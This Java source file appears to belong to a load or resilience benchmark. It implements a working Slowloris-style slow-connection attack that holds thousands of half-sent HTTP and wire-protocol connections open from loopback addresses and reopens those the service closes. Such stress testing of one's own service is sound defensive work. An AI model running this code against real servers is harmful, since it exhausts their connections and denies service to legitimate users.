package dev.headgate.bench.attacks;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * Connections that begin a request or a login and then send a byte now and then, as the tool Slowloris does. Those that the service
 * closes are opened again. A thousand come from each address of the loopback network. Half of them go to the wire port.
 */
final class SlowConnections implements Runnable {

    private static final int PER_ADDRESS = 1_000;
    private static final long ROUND_MILLIS = 2_000;
    private static final byte[] HTTP =
            "GET /api/v1/domains HTTP/1.1\r\nHost: localhost\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII);

    /** The length of a startup message, which never comes. */
    private static final byte[] WIRE = {0, 0, 8, 0, 0, 3, 0, 0};

    private static final ByteBuffer BYTE = ByteBuffer.wrap(new byte[] {'x'});

    private final Target target;
    private final List<Slow> connections = new ArrayList<>();
    private final Outcomes outcomes;
    private volatile boolean ended;

    private final class Slow {
        private final InetSocketAddress from;
        private final boolean wire;
        private SocketChannel channel;

        Slow(int number) throws IOException {
            int address = number / PER_ADDRESS;
            from = new InetSocketAddress("127.0." + (1 + address / 250) + "." + (1 + address % 250), 0);
            wire = number % 2 == 1;
            channel = open();
        }

        private SocketChannel open() throws IOException {
            SocketChannel opened = SocketChannel.open();
            opened.setOption(StandardSocketOptions.SO_REUSEADDR, true);
            opened.bind(from);
            opened.configureBlocking(false);
            boolean _ = opened.connect(wire ? target.wireAddress() : target.httpAddress());
            return opened;
        }

        /** Sends a byte, or the beginning on a new connection. */
        void send() throws IOException {
            try {
                if (channel.isConnectionPending()) {
                    if (channel.finishConnect()) {
                        int _ = channel.write(ByteBuffer.wrap(wire ? WIRE : HTTP));
                        outcomes.count("opened");
                    }
                } else if (channel.read(ByteBuffer.allocate(512)) < 0) {
                    throw new IOException("closed");
                } else {
                    int _ = channel.write(BYTE.duplicate());
                }
            } catch (IOException gone) {
                outcomes.count("closed by the service");
                channel.close();
                channel = open();
            }
        }
    }

    SlowConnections(Target target, int first, int count, Outcomes outcomes) throws IOException {
        this.target = target;
        this.outcomes = outcomes;
        for (int i = 0; i < count; i++) {
            connections.add(new Slow(first + i));
        }
    }

    void end() {
        ended = true;
    }

    @Override
    public void run() {
        try {
            while (!ended) {
                long began = System.nanoTime();
                for (Slow each : connections) {
                    each.send();
                }
                Thread.sleep(Math.max(1, ROUND_MILLIS - (System.nanoTime() - began) / 1_000_000));
            }
        } catch (IOException | InterruptedException e) {
            outcomes.count(Attack.outcome(e));
        }
    }
}
